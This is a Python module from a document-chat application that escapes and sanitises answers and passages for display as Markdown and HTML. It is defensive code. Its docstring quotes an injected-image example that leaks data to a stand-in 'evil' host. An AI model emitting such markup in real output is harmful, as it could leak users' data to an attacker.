"""Answers and passages as safe Markdown and HTML for the chat window.

Everything that comes from a document or a model is untrusted: a passage may contain `<script>`,
`<img src=https://evil/?leak=...>` or Markdown image syntax. So text is never handed to a
renderer as it is. In the chat, Markdown's active characters are backslash-escaped before our own
marker links are added, and what the chat's Markdown would turn into a link by itself (a bare URL,
`www.`, an e-mail address) is broken with an escape that leaves the text as it reads; in the
citations panel, text is HTML-escaped and the finished HTML is then passed through nh3 (Ammonia)
with a short allow-list, no `<img>`, no URLs but in-page anchors.
"""

from __future__ import annotations

import base64
import html
import re
import secrets
from collections.abc import Callable

from rag.page_view import MEDIA_TYPE
from rag.types import FORMAT_CHARACTERS, Answer, Citation, Hit, PageRef, pages_label, section_beside_pages

# The picture of a PDF page with a span highlighted: (source, page number, start, end, around) ->
# image bytes (rag.page_view.MEDIA_TYPE), or None when the page cannot be shown
# (ChatService.page_image); `around`: only the part of the page around the span.
PageImage = Callable[[str, int, int, int, bool], bytes | None]

_MARKDOWN_ACTIVE = re.compile(r"([\\`*_\[\]<>!|~&$@])")  # anywhere in a line; `@` starts no e-mail link
_AUTOLINK = re.compile(r"(?i)(?:(?<=https)|(?<=http)|(?<=ftp))(?=://)|(?<=www)(?=\.)")  # GFM links these bare
_ABSOLUTE_PATH = re.compile(r"(?<![\w.:/~-])/(?:[^\s/'\"`<>]+/)+([^\s/'\"`<>]+)")
_LINE_START = re.compile(r"^(\s*)([#>+\-=]|\d+[.)])", re.M)  # headings, quotes, lists, setext rules
_MARKER = re.compile(r"\\\[(\d+)\\\]")  # a marker [n] after escaping
_ALLOWED_TAGS = {"div", "span", "mark", "b", "p", "small", "a", "h4", "ul", "li", "em"}
_ALLOWED_ATTRIBUTES = {"*": {"id", "class", "title"}, "a": {"href"}}
DOCUMENT_MARK_ID = "rag-doc-mark"
_INVISIBLE = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f{FORMAT_CHARACTERS}]")  # controls, and see index.clean


def shown(text: str) -> str:
    """`text` as it is, made visible: a direction override or isolate, a zero-width character or a
    control character (which make a quote display otherwise than it reads) is written as ⟦U+202E⟧.
    Only what is displayed changes; spans and the verbatim check use the text itself."""
    return _INVISIBLE.sub(lambda m: f"⟦U+{ord(m.group()):04X}⟧", text)


def _esc(text: str) -> str:
    return html.escape(shown(text))


def escape_markdown(text: str) -> str:
    """Text that Markdown shows literally: no links (not even a bare URL or e-mail address),
    images, HTML or emphasis can come out of it; invisible characters shown (`shown`)."""
    escaped = _MARKDOWN_ACTIVE.sub(r"\\\1", shown(text))
    escaped = _AUTOLINK.sub(r"\\", escaped)  # https\://…, www\.…: read the same, link nowhere
    return _LINE_START.sub(lambda m: f"{m.group(1)}{m.group(2)[:-1]}\\{m.group(2)[-1]}", escaped)


def without_paths(text: str, places: dict[str, str]) -> str:
    """A message for the window with no absolute server path in it: each known folder (full path
    → shown name) replaced by its name, then any other absolute path by its last part."""
    for full in sorted(places, key=len, reverse=True):
        text = text.replace(full, places[full])
    return _ABSOLUTE_PATH.sub(lambda m: m.group(1), text)


def clean_html(fragment: str) -> str:
    """Our own HTML with anything outside the allow-list removed (defence in depth behind escaping)."""
    import nh3

    return nh3.clean(
        fragment, tags=_ALLOWED_TAGS, attributes=_ALLOWED_ATTRIBUTES, url_schemes=set(), link_rel=None,
        strip_comments=True,
    )


def answer_markdown(answer: Answer) -> str:
    """The chat bubble: the answer with each marker [n] a link to its passage in the citations
    panel, sentences that failed verification marked, and which answerer produced it."""
    cited = {c.marker for c in answer.citations}
    if answer.abstained:
        body = "⚠️ **The documents don't answer this.** " + escape_markdown(
            answer.text.removeprefix("The documents don't answer this: "))
    elif answer.sentences:
        body = " ".join(_sentence_markdown(s.text, s.supported, s.problem, cited) for s in answer.sentences)
    else:
        body = _link_markers(escape_markdown(answer.text), cited)
    footer = [answer.generator]
    if answer.resolved_question and answer.resolved_question != answer.question:
        footer.append(f"understood as “{escape_markdown(answer.resolved_question)}”")
    if "total" in answer.timings:
        footer.append(f"{answer.timings['total']:.0f} ms")
    notes = "".join(f"\n\n⚠️ {escape_markdown(w)}" for w in answer.warnings)
    return f"{body}{notes}\n\n*{' · '.join(footer)}*"


def _sentence_markdown(text: str, supported: bool, problem: str | None, cited: set[int]) -> str:
    rendered = _link_markers(escape_markdown(text), cited)
    if supported:
        return rendered
    return f"~~{rendered}~~ ⚠️ *unverified: {escape_markdown(problem or 'not supported')}*"


def _link_markers(escaped: str, cited: set[int]) -> str:
    def link(match: re.Match) -> str:
        n = int(match.group(1))
        return f"[\\[{n}\\]](#cite-{n})" if n in cited else match.group(0)

    return _MARKER.sub(link, escaped)


def partial_markdown(text: str) -> str:
    """A reply still streaming in: shown literally, markers not yet linked."""
    return escape_markdown(text) + " ▌"


def citations_html(answer: Answer | None, page_image: PageImage | None = None) -> str:
    """The citations panel for the latest answer: each cited passage with its source, page,
    section and position, the quoted sentence highlighted, and for a PDF the cited page itself with
    the quote marked on it (`page_image`); for an abstention, the closest passages as such."""
    if answer is None:
        return clean_html('<div class="rag-empty">Citations for the latest answer appear here.</div>')
    parts = []
    flagged = [s for s in answer.sentences if not s.supported]
    if flagged:
        items = "".join(f"<li>{_esc(s.text)} <em>({_esc(s.problem or 'not supported')})</em></li>"
                        for s in flagged)
        parts.append(f'<div class="rag-unverified"><b>⚠️ Not backed by the cited passages</b><ul>{items}</ul></div>')
    pictures: dict[str, str] = {}  # a slot's token -> the page picture that replaces it after cleaning
    if answer.abstained or not answer.citations:
        parts.append('<h4 class="rag-closest">Closest passages: they do not answer the question</h4>')
        parts.extend(_hit_html(i, hit) for i, hit in enumerate(answer.passages, 1))
        if not answer.passages:
            parts.append('<div class="rag-empty">No passage came close.</div>')
    else:
        for c in answer.citations:
            parts.append(_citation_html(c, _page_slots(c, page_image, pictures)))
    panel = clean_html(f'<div class="rag-panel">{"".join(parts)}</div>')
    for token, picture in pictures.items():
        panel = panel.replace(token, picture)
    return panel


def _page_slots(c: Citation, page_image: PageImage | None, pictures: dict[str, str]) -> str:
    """Placeholders for the pictures of the pages a citation's quote lies on. The pictures are our
    own markup (an <img> with a data: URL), which the allow-list would strip, so they go in after
    cleaning, in place of a random token no document can have guessed."""
    if page_image is None:
        return ""
    slots = []
    for page in c.pages[:2]:
        image = page_image(c.source, page.number, c.start_char, c.end_char, True)
        if image is None:
            continue
        token = f"rag-page-{secrets.token_hex(12)}"
        pictures[token] = page_picture(image, f"{c.source}, {pages_label((page,))}, the quote highlighted")
        slots.append(f'<div class="rag-page">{token}</div>')
    return "".join(slots)


def page_picture(image: bytes, alt: str) -> str:
    """An <img> showing `image` (rag.page_view.MEDIA_TYPE) from a data: URL: no file is served for it."""
    data = base64.b64encode(image).decode("ascii")
    return f'<img class="rag-page-image" alt="{_esc(alt)}" src="data:{MEDIA_TYPE};base64,{data}">'


def no_page_html(source: str, number: int) -> str:
    return clean_html(f'<div class="rag-empty">Page {number} of {_esc(source)} cannot be shown: it holds '
                      "no text the index kept, the file changed since it was indexed, or the page is too large "
                      "to draw.</div>")


def _citation_html(c: Citation, pictures: str = "") -> str:
    start = c.start_char - c.passage_start
    end = start + len(c.quote)
    if c.passage[start:end] != c.quote:  # not where it should be: highlight where it is
        start = c.passage.find(c.quote)
        end = start + len(c.quote)
    body = _highlighted(c.passage, start, end) if start >= 0 else _esc(c.passage)
    head = _head(f"[{c.marker}]", c.source, c.section, c.start_char, c.end_char, c.pages, c.title)
    return f'<div class="rag-cite" id="cite-{c.marker}">{head}<div class="rag-passage">{body}</div>{pictures}</div>'


def _hit_html(n: int, hit: Hit) -> str:
    best = hit.best_sentence
    start = best.start_char - hit.start_char if best else -1
    end = best.end_char - hit.start_char if best else -1
    body = _highlighted(hit.text, start, end) if best and hit.text[start:end] == best.quote else _esc(hit.text)
    head = _head(f"#{n}", hit.source, hit.section, hit.start_char, hit.end_char, hit.pages, hit.title)
    return f'<div class="rag-cite rag-closest-passage" id="closest-{n}">{head}<div class="rag-passage">{body}</div></div>'


def _head(label: str, source: str, section: str, start: int, end: int, pages: tuple[PageRef, ...] = (),
          title: str | None = None) -> str:
    where = f"characters {start:,}–{end:,}"
    title_note = f'<span class="rag-title">{_esc(title)}</span> · ' if title else ""
    section = section_beside_pages(section, pages)
    page_note = f' · <span class="rag-page-label">{_esc(pages_label(pages))}</span>' if pages else ""
    section_note = f' · <span class="rag-section">{_esc(_section_label(section))}</span>' if section != "body" else ""
    return (f'<div class="rag-cite-head"><b>{_esc(label)}</b> {title_note}<span class="rag-source">{_esc(source)}</span>'
            f'{page_note}{section_note} · <small>{where}</small></div>')


def _section_label(section: str) -> str:
    return section[:1].upper() + section[1:]


def _highlighted(text: str, start: int, end: int, mark_id: str | None = None) -> str:
    ident = f' id="{mark_id}"' if mark_id else ""
    return (_esc(text[:start]) + f"<mark{ident}>" + _esc(text[start:end]) + "</mark>"
            + _esc(text[end:]))


def document_html(source: str, text: str | None, start: int, end: int) -> str:
    """The full document with the cited span highlighted; the page scrolls the mark into view."""
    if text is None:
        return clean_html(f'<div class="rag-empty">{_esc(source)} is no longer in the index.</div>')
    start, end = max(0, min(start, len(text))), max(0, min(end, len(text)))
    body = _highlighted(text, start, end, DOCUMENT_MARK_ID)
    return clean_html(f'<div class="rag-panel rag-document"><div class="rag-cite-head"><b>{_esc(source)}</b></div>'
                      f'<div class="rag-passage">{body}</div></div>')
